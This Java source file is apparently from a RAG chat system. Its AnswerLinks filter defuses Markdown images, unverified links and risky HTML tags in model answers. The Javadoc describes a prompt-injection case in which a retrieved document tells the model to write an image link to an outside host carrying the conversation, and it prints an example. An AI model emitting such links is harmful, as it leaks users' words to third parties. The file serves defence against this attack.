package dev.customrag.chat;

import java.util.List;
import java.util.Optional;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;

/**
 * Takes from an answer what would carry its words elsewhere by being shown: a document may have told the model to write
 * {@code ![](https://elsewhere/?q=what+was+said)}. A space is put into what Markdown or HTML would act on, nothing is taken
 * out, so that a reader sees where it would have led:
 *
 * <ul>
 *   <li>{@code ![}, an image, of whatever address: to load it already tells somebody
 *   <li>{@code ](}, a link, unless its address stands in the question or the sources, word for word, and so carries nothing
 *       that its author does not know; and {@code ]:}, the definition of one
 *   <li>the bracket of an HTML tag with attributes that could hold an address or a script, and of {@code <script>} and
 *       {@code <style>}
 * </ul>
 *
 * <p>Code is no exception: where it begins shows only where it ends, and where it ends is what renderers differ about.
 */
final class AnswerLinks extends AnswerFilter {

    private static final Pattern IMAGE = Pattern.compile("!(?=\\[)");

    /** Addresses with parentheses and escapes end where each renderer sees fit: they are none that can be compared. */
    private static final Pattern LINK =
            Pattern.compile("](?:\\((?=(?<to>[^\\s()<>\\\\]{0,2000})(?<end>[\\s)])?)" + "|(?=:))");

    private static final String BEFORE_ADDRESS = " \t\r\n\u00a0(<[\"'“„«";
    private static final Pattern AFTER_ADDRESS = Pattern.compile("[.,;:!?)\\]>\"'”“»*_]{0,5}(?:[\\s\u00a0<(]|$)");

    private static final String NAME = "[a-zA-Z][a-zA-Z0-9:.-]{0,60}";
    private static final String PLAIN_VALUE = "[a-zA-Z0-9_\\s.,#+%-]{0,200}";

    /** A tag whose attributes have plain values, which are no address and no call; or a namespace, which nobody loads. */
    private static final String HARMLESS_TAG =
            "(?!(?i:script|style)[\\s/>])" + NAME + "(?:\\s{1,20}(?:xmlns(?::" + NAME + ")?=\"[^\"<>]{0,200}\"|" + NAME
                    + "=(?:\"" + PLAIN_VALUE + "\"|'" + PLAIN_VALUE + "'))){1,20}\\s{0,20}/?>";

    /**
     * Anything else that may be one. Before a quotation mark there is an equals sign; without one the tag ends at the first
     * bracket, and has nothing but names. Where there is no end on the line, or what is changed here or by
     * {@link AnswerMarks}, nobody knows what it will be.
     */
    private static final Pattern TAG = Pattern.compile(
            "<(?!" + HARMLESS_TAG + ")" + "(?=(?<tag>[a-zA-Z][^>=\\n\\[\\]!［〔【\\\\]{0,80})(?<after>.))",
            Pattern.DOTALL);

    private static final Pattern ACTIVE = Pattern.compile("(?i:script|style)(?:[\\s/].*)?", Pattern.DOTALL);

    private final List<String> given;

    /**
     * @param given the texts whose addresses may be linked to: the question and the sources
     */
    AnswerLinks(List<String> given) {
        this.given = List.copyOf(given);
    }

    @Override
    Optional<Pattern> beginsWith(char character) {
        return switch (character) {
            case '!' -> Optional.of(IMAGE);
            case ']' -> Optional.of(LINK);
            case '<' -> Optional.of(TAG);
            default -> Optional.empty();
        };
    }

    @Override
    void found(MatchResult construct, char next) {
        String text = construct.group();
        boolean harmless =
                switch (text.charAt(0)) {
                    case ']' -> isKnown(construct.group("to"), construct.group("end"));
                    case '<' ->
                        construct.group("after").equals(">")
                                && !ACTIVE.matcher(construct.group("tag")).matches();
                    default -> false;
                };
        plain(text.charAt(0));
        if (!harmless) {
            plain(' ');
        }
        text.chars().skip(1).forEach(character -> plain((char) character));
    }

    private boolean isKnown(String address, String end) {
        // No end: a definition, or too long.
        if (end == null) {
            return false;
        }
        return address.isEmpty()
                ? end.equals(")")
                : address.startsWith("#") || given.stream().anyMatch(text -> stands(address, text));
    }

    /** Whole: how much of an address was taken would tell something as well. */
    private static boolean stands(String address, String text) {
        for (int at = text.indexOf(address); at >= 0; at = text.indexOf(address, at + 1)) {
            boolean begins = at == 0 || BEFORE_ADDRESS.indexOf(text.charAt(at - 1)) >= 0;
            int end = at + address.length();
            if (begins && AFTER_ADDRESS.matcher(text).region(end, text.length()).lookingAt()) {
                return true;
            }
        }
        return false;
    }

    @Override
    void plain(char character) {
        write(character);
    }
}
